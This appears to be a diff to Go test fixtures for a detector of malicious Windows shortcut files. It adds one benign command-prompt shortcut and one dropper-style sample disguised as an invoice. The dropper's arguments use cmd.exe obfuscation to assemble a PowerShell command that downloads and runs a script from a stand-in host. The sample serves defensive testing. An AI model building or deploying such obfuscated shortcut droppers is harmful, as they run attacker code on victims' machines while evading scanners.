@@ -35,6 +35,9 @@ func lnkDroppers() []struct {
 		{"rundll32-beside", "rundll32 running a DLL beside the shortcut (the ISO droppers' shape), the target only in the shell items",
 			"Documents.lnk", formats.LNK(formats.Shortcut{Target: `C:\Windows\System32\rundll32.exe`, IDList: true, Arguments: `data\notepad.dat,DllRegisterServer`,
 				IconLocation: `%SystemRoot%\System32\shell32.dll`, IconIndex: 3})},
+		{"cmd-dosfuscated", "cmd.exe whose command is spelled with cmd's own obfuscation: a variable set earlier on the line, a letter cut out of %ProgramData%, call's second expansion and carets build \"powershell\" and a web address no word of the arguments shows",
+			"Invoice_4471.lnk", formats.LNK(formats.Shortcut{Target: `C:\Windows\System32\cmd.exe`, IDList: true, LinkInfo: true, ShowCommand: 7,
+				Arguments: `/c "set x=ersh&&set u=ht^tps:/&&call %ProgramData:~3,1%o^w%x%ell -nop -c i%ProgramData:~-1,0%wr %u%/cdn.lnk-kit.example.net/i.ps1 ^| i%PUBLIC:~-2,1%x; notepad"`})},
 	}
 }
 
@@ -86,6 +89,7 @@ func shortcutSamples() []Sample {
 		{"excel-safe-mode", "a Start-menu shortcut to Excel in safe mode", "Excel (safe mode).lnk"},
 		{"url-file-server", "an Internet shortcut to a workbook on the company's file server", "Q3 figures.url"},
 		{"library-file-server", "a library of the company's project share and the Documents folder", "Projects.library-ms"},
+		{"cmd-set-language", "a shortcut opening a command prompt that sets the language, goes to the user's folder and runs the company's environment script from the file server", "Tools prompt.lnk"},
 	}
 	lnks := [][]byte{
 		formats.LNK(formats.Shortcut{Target: `\\fileserver\finance\Q3 figures.xlsx`, LinkInfo: true, Name: "Q3 figures"}),
@@ -96,6 +100,7 @@ func shortcutSamples() []Sample {
 		[]byte(`<?xml version="1.0" encoding="UTF-8"?>` + "\r\n" + `<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><name>Projects</name><version>6</version>` +
 			`<searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\fs01.corp.local\projects</url></simpleLocation></searchConnectorDescription>` +
 			`<searchConnectorDescription><simpleLocation><url>knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>` + "\r\n"),
+		formats.LNK(formats.Shortcut{EnvTarget: `%COMSPEC%`, Arguments: `/k "set LANG=ja&&cd /d %USERPROFILE%&&\\fileserver\tools\env.bat"`, IconEnv: `%COMSPEC%`}),
 	}
 	for i, h := range honest {
 		add(Sample{Name: "lnk-honest-" + h.key, About: "an honest shortcut, quarantined as every shortcut attachment is, without shortcut-command: " + h.about,
